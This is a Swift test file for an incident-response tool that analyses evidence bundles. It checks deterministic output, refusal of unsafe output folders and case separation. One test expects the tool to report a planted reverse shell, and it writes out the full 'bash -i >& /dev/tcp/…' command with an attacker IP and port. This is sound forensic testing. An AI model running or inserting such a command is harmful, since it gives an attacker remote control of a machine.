import Bytes
import Foundation
import TestSupport
import Testing

/// The program itself, as a user runs it.
struct RunTests {
  @Test func aSecondRunDoesNoWorkAndWritesTheSameBytes() throws {
    let bundle = try SmallBundle()
    let first = try bundle.run("one")
    let second = try bundle.run("two")
    #expect(first.status == second.status)
    #expect(first.output.isEmpty && second.output.isEmpty)
    let one = try bundle.outputs("one")
    #expect(
      Set(one.keys).isSuperset(of: ["report.html", "findings.jsonl", "timeline.jsonl", "timeline.csv", "incident.json"])
    )
    #expect(try bundle.outputs("two") == one)
    let units = try bundle.contents("two/run.json").withView { JSONView($0)["units"]?["computed"]?.integer }
    #expect(units == 0)
  }

  /// Whoever stands in the folder of evidence has the store and the report there too.
  @Test func whatItWroteItselfIsNoEvidence() throws {
    let bundle = try SmallBundle()
    func run(_ out: String) throws -> ProgramResult {
      try runProgram(
        irAnalyze, ["run", ".", "-o", out], in: bundle.path, environment: ["IR_ANALYZE_STORE": "ir-analyze-store"])
    }
    let first = try run("report")
    #expect(first.status == 0 || first.status == 2, "\(first.errors)")
    let one = try bundle.outputs("bundle/report")
    for out in ["report", "other", "third"] {
      let again = try run(out)
      #expect(again.status == first.status && again.errors.contains("left out: ir-analyze-store"), "\(again.errors)")
      #expect(try bundle.outputs("bundle/\(out)") == one)
    }
  }

  @Test func theReverseShellIsFoundWithItsPidAndBothEnds() throws {
    let bundle = try SmallBundle()
    _ = try bundle.run("out")
    let findings = try bundle.contents("out/findings.jsonl").split(separator: "\n")
    #expect(findings.contains { $0.contains("203.0.113.66") && $0.contains("4444") && $0.contains("465") })
    #expect(findings.contains { $0.contains("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1") })
  }

  @Test func outputsAreTheSameWhateverTheNumberOfWorkers() throws {
    let one = try SmallBundle()
    let many = try SmallBundle()
    _ = try one.run("out", ["--workers", "1"])
    _ = try many.run("out", ["--workers", "7"])
    #expect(try one.outputs("out") == many.outputs("out"))
  }

  @Test func anOutputFolderOfSomethingElseIsRefused() throws {
    let bundle = try SmallBundle()
    try bundle.folder.write("out/letter.txt", "dear")
    let result = try bundle.run("out")
    #expect(result.status == 64)
    #expect(result.errors.contains("is not empty and not a report of case"))
    #expect(!FileManager.default.fileExists(atPath: bundle.store))
  }

  @Test func anOutputFolderThatAnotherRunWritesIntoIsRefused() throws {
    let bundle = try SmallBundle()
    _ = try bundle.run("out")
    let folder = open(bundle.folder.path + "/out", O_RDONLY | O_DIRECTORY)
    #expect(folder >= 0 && flock(folder, LOCK_EX | LOCK_NB) == 0)
    let refused = try bundle.run("out")
    #expect(refused.status == 64 && refused.errors.contains("another run is writing its report into"))
    close(folder)
    let again = try bundle.run("out")
    #expect(again.status == 0 || again.status == 2, "\(again.errors)")
  }

  @Test func aCaseOfAnotherSourceIsNotMixedInUnasked() throws {
    let bundle = try SmallBundle()
    _ = try bundle.run("out")
    try bundle.folder.write("other/i-0b7c4e19d2f35a86e/x/a.txt", "text")
    let arguments = ["run", bundle.folder.path + "/other", "-o", bundle.folder.path + "/out2", "--store", bundle.store]
    let refused = try runProgram(irAnalyze, arguments)
    #expect(refused.status == 64 && refused.errors.contains("already holds evidence from"))
    let asked = try runProgram(irAnalyze, arguments + ["--case", "i-0b7c4e19d2f35a86e"])
    #expect(asked.status == 0 || asked.status == 2)
  }
}
